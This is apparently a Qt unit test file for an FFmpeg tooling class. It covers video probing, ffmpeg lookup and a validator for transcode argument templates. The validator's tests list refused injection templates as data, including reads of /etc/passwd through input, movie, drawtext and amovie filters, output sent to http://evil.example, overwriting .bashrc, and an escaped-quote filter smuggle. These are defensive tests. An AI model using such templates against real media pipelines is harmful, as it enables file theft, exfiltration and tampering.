// SPDX-License-Identifier: MIT
#include "core/media/ffmpegtools.h"
#include "core/media/mediaprobe.h"
#include "core/media/transcodetemplate.h"
#include "core/media/videoinfo.h"
#include "core/platform/appdirs.h"
#include "testvideos.h"

#include <QDir>
#include <QFile>
#include <QScopeGuard>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QtTest>

#include <sys/stat.h>

class TestFFMpegTools final : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();

    void info_files_giveFactsAndLayout_data();
    void info_files_giveFactsAndLayout();
    void info_fileOver4GiB_reportsFullSize();
    void info_nullTarget_returns2065();
    void info_noFfmpegAnywhere_returns404();
    void program_packagedCopy_winsOverPath();

    void transcodeTemplate_templates_acceptedOrRefused_data();
    void transcodeTemplate_templates_acceptedOrRefused();
    void hasAcceptedSuffix_paths_videoSuffixesInAnyCase_data();
    void hasAcceptedSuffix_paths_videoSuffixesInAnyCase();

private:
    QTemporaryDir m_dir;
    QString m_plain;
    QString m_fast;
    QString m_awkward;
};

void TestFFMpegTools::initTestCase()
{
    QVERIFY(m_dir.isValid());
    QVERIFY2(!TestVideos::ffmpeg().isEmpty(), "ffmpeg is needed to generate test media");

    TestVideoOptions options;
    options.seconds = 2;
    m_plain = m_dir.filePath(QStringLiteral("plain.mp4"));
    QVERIFY(TestVideos::make(m_plain, options));
    m_awkward = m_dir.filePath(QStringLiteral("my \"best\" clip.mp4"));
    QVERIFY(TestVideos::make(m_awkward, options));
    options.faststart = true;
    m_fast = m_dir.filePath(QStringLiteral("fast.mp4"));
    QVERIFY(TestVideos::make(m_fast, options));
}

void TestFFMpegTools::info_files_giveFactsAndLayout_data()
{
    QTest::addColumn<QString>("path");
    QTest::addColumn<QByteArray>("content"); // written first unless null
    QTest::addColumn<int>("result");
    QTest::addColumn<bool>("moovAheadMdat");

    QTest::newRow("faststart mp4") << m_fast << QByteArray() << 0 << true;
    QTest::newRow("plain mp4") << m_plain << QByteArray() << 0 << false;
    QTest::newRow("blanks and quotes in path") << m_awkward << QByteArray() << 0 << false;
    QTest::newRow("zero bytes") << m_dir.filePath(QStringLiteral("zero.mp4")) << QByteArray("") << 1 << false;
    QTest::newRow("text named mp4") << m_dir.filePath(QStringLiteral("notes.mp4")) << QByteArray("not a video\n") << 1
                                    << false;
    QTest::newRow("missing file") << m_dir.filePath(QStringLiteral("missing.mp4")) << QByteArray() << 403 << false;
    // ffmpeg would wait for a writer for ever.
    QTest::newRow("FIFO") << m_dir.filePath(QStringLiteral("fifo.mp4")) << QByteArray() << 415 << false;
    QTest::newRow("directory") << m_dir.path() << QByteArray() << 415 << false;
}

void TestFFMpegTools::info_files_giveFactsAndLayout()
{
    QFETCH(QString, path);
    QFETCH(QByteArray, content);
    QFETCH(int, result);
    QFETCH(bool, moovAheadMdat);
    if (path.endsWith(QLatin1String("fifo.mp4")))
        QCOMPARE(::mkfifo(QFile::encodeName(path).constData(), 0600), 0);
    if (!content.isNull()) {
        QFile file(path);
        QVERIFY(file.open(QIODevice::WriteOnly | QIODevice::Truncate));
        QCOMPARE(file.write(content), qint64(content.size()));
    }

    VideoInfo info;
    FFMpegTools tools;
    QCOMPARE(tools.info(&info, path), result);
    QVERIFY2(!TestVideos::processRunningWith(path), "ffmpeg left running");
    if (result != 0)
        return;
    QCOMPARE(info.videoStreams()[0].width, 64);
    QCOMPARE(info.videoStreams()[0].height, 48);
    QCOMPARE(info.size(), QFileInfo(path).size());
    QCOMPARE(info.moovAheadMdat(), moovAheadMdat);
    QCOMPARE(info.nuvMp4(), false);
    QVERIFY(info.output().contains(QLatin1String("Duration:")));
}

void TestFFMpegTools::info_fileOver4GiB_reportsFullSize()
{
    // Sparse: the movie is at the front, so ffmpeg never reads the zeros behind it.
    const QString path = m_dir.filePath(QStringLiteral("large.mp4"));
    QVERIFY(QFile::copy(m_fast, path));
    const qint64 size = (qint64(5) << 30) + 123;
    QVERIFY(QFile::resize(path, size));

    VideoInfo info;
    FFMpegTools tools;
    QCOMPARE(tools.info(&info, path), 0);
    QCOMPARE(info.size(), size);
    QCOMPARE(info.moovAheadMdat(), true);
    QVERIFY(QFile::remove(path));
}

void TestFFMpegTools::info_nullTarget_returns2065()
{
    FFMpegTools tools;
    QCOMPARE(tools.info(nullptr, m_fast), 2065);
}

void TestFFMpegTools::info_noFfmpegAnywhere_returns404()
{
    QVERIFY(!QFileInfo::exists(AppDirs::programFolder() + QStringLiteral("/ffmpeg/ffmpeg")));
    const QByteArray savedPath = qgetenv("PATH");
    const auto restore = qScopeGuard([&] { qputenv("PATH", savedPath); });
    qputenv("PATH", "");
    QVERIFY(FFMpegTools::program().isEmpty());

    VideoInfo info;
    FFMpegTools tools;
    QCOMPARE(tools.info(&info, m_fast), 404);
    QSignalSpy progress(&tools, &FFMpegTools::formatProcessSignal);
    const QString target = m_dir.filePath(QStringLiteral("never.mp4"));
    QCOMPARE(tools.format(QStringList{QStringLiteral("-i"), m_fast, target}), 404);
    QVERIFY(tools.formatError().startsWith(QStringLiteral("未找到 ffmpeg")));
    QCOMPARE(progress.count(), 0);
    QVERIFY(!QFileInfo::exists(target));
}

void TestFFMpegTools::program_packagedCopy_winsOverPath()
{
    const QString folder = AppDirs::programFolder() + QStringLiteral("/ffmpeg");
    if (QFileInfo::exists(folder))
        QSKIP("a packaged ffmpeg folder already exists beside the test");
    const QString packaged = folder + QStringLiteral("/ffmpeg");
    const QByteArray savedPath = qgetenv("PATH");
    const auto restore = qScopeGuard([&] {
        qputenv("PATH", savedPath);
        QFile::remove(packaged);
        QDir().rmdir(folder);
    });
    QVERIFY(QDir().mkpath(folder));
    QVERIFY(QFile::link(TestVideos::ffmpeg(), packaged));
    qputenv("PATH", "");

    QCOMPARE(FFMpegTools::program(), packaged);
    VideoInfo info;
    FFMpegTools tools;
    QCOMPARE(tools.info(&info, m_fast), 0);
}

void TestFFMpegTools::transcodeTemplate_templates_acceptedOrRefused_data()
{
    // clang-format off
    QTest::addColumn<QString>("argumentTemplate");
    QTest::addColumn<QStringList>("expected"); // empty: refused
    QTest::addColumn<QString>("refused");

    const QString source = QStringLiteral("/home/u/My Videos/say \"hi\".mp4");
    const QStringList output{QStringLiteral("-protocol_whitelist"), QStringLiteral("file"),
                             QStringLiteral("/data/tmp/NR_7.mp4")};
    QTest::newRow("platform template")
        << QStringLiteral("-i {source} -c:v libx264 -b:v 1000k -s 1280x720 -c:a aac -y {target}")
        << QStringList{QStringLiteral("-i"), source, QStringLiteral("-c:v"), QStringLiteral("libx264"),
                       QStringLiteral("-b:v"), QStringLiteral("1000k"), QStringLiteral("-s"), QStringLiteral("1280x720"),
                       QStringLiteral("-c:a"), QStringLiteral("aac"), QStringLiteral("-y")} + output
        << QString();
    QTest::newRow("reference server template")
        << QStringLiteral("{ffmpegPath} -y -i \"{source}\" -vf scale=-2:240 -c:v libx264 -preset ultrafast -crf 32 "
                          "-c:a aac -b:a 64k -movflags +faststart \"{target}\"")
        << QStringList{QStringLiteral("-y"), QStringLiteral("-i"), source, QStringLiteral("-vf"),
                       QStringLiteral("scale=-2:240"), QStringLiteral("-c:v"), QStringLiteral("libx264"),
                       QStringLiteral("-preset"), QStringLiteral("ultrafast"), QStringLiteral("-crf"), QStringLiteral("32"),
                       QStringLiteral("-c:a"), QStringLiteral("aac"), QStringLiteral("-b:a"), QStringLiteral("64k"),
                       QStringLiteral("-movflags"), QStringLiteral("+faststart")} + output
        << QString();
    QTest::newRow("quoted comma inside a filter")
        << QStringLiteral("-i {source} -map 0:v:0 -map 0:a? -vf \"scale='min(1280,iw)':-2,fps=30\" -f mp4 {target}")
        << QStringList{QStringLiteral("-i"), source, QStringLiteral("-map"), QStringLiteral("0:v:0"),
                       QStringLiteral("-map"), QStringLiteral("0:a?"), QStringLiteral("-vf"),
                       QStringLiteral("scale='min(1280,iw)':-2,fps=30"), QStringLiteral("-f"), QStringLiteral("mp4")} + output
        << QString();

    const auto refused = [](const char *name, const char *argumentTemplate, const char *argument) {
        QTest::newRow(name) << QString::fromUtf8(argumentTemplate) << QStringList() << QString::fromUtf8(argument);
    };
    refused("reads another file", "-i /etc/passwd -c copy {target}", "-i /etc/passwd");
    refused("second input", "-i {source} -i {source} -map 1 {target}", "-i {source}");
    refused("http output", "-i {source} -c copy -f mp4 http://evil.example/up", "http://evil.example/up");
    refused("second output", "-i {source} -c copy /home/u/.bashrc {target}", "/home/u/.bashrc");
    refused("target not last", "-i {source} {target} -f mp4", "{target}");
    refused("no target", "{ffmpegPath} -i {source}", "{target}");
    refused("lavfi reads the source as a graph", "-f lavfi -i {source} {target}", "-f lavfi");
    refused("movie filter", "-i {source} -vf movie=/etc/passwd {target}", "-vf movie=/etc/passwd");
    refused("file reader behind an allowed filter", "-i {source} -filter:v scale=320:-2,drawtext=textfile=/etc/passwd {target}",
            "-filter:v scale=320:-2,drawtext=textfile=/etc/passwd");
    // ffmpeg reads \' as a plain quote, so the comma after it starts a second filter.
    refused("escaped quote hiding a second filter", "-i {source} -vf \"scale=a\\',subtitles=x.srt,b='\" {target}",
            "-vf scale=a\\',subtitles=x.srt,b='");
    refused("filter graph option", "-i {source} -filter_complex amovie=/etc/passwd {target}", "-filter_complex");
    refused("codec value that is a path", "-i {source} -c:v /dev/sda {target}", "-c:v /dev/sda");
    // clang-format on
}

void TestFFMpegTools::transcodeTemplate_templates_acceptedOrRefused()
{
    QFETCH(QString, argumentTemplate);
    TranscodeTemplate::Refusal refusal;
    QTEST(TranscodeTemplate::build(argumentTemplate, QStringLiteral("/home/u/My Videos/say \"hi\".mp4"),
                                   QStringLiteral("/data/tmp/NR_7.mp4"), &refusal),
          "expected");
    QTEST(refusal.argument, "refused");
}

void TestFFMpegTools::hasAcceptedSuffix_paths_videoSuffixesInAnyCase_data()
{
    QTest::addColumn<QString>("path");
    QTest::addColumn<bool>("accepted");
    for (const char *path : {"/v/x.rmvb", "/v/x.rm", "/v/x.RaM", "/v/A.MP4", "/x.y/x.navi", "e.3gp"})
        QTest::newRow(path) << QString::fromLatin1(path) << true;
    for (const char *path : {"/v/x.mp4.txt", "/v/mp4", "b.mp4.part", "c.mp3", "d.m4v"})
        QTest::newRow(path) << QString::fromLatin1(path) << false;
}

void TestFFMpegTools::hasAcceptedSuffix_paths_videoSuffixesInAnyCase()
{
    QFETCH(QString, path);
    QTEST(MediaProbe::hasAcceptedSuffix(path), "accepted");
    QCOMPARE(MediaProbe::acceptedSuffixes().size(), 17);
}

QTEST_GUILESS_MAIN(TestFFMpegTools)
#include "tst_ffmpegtools.moc"
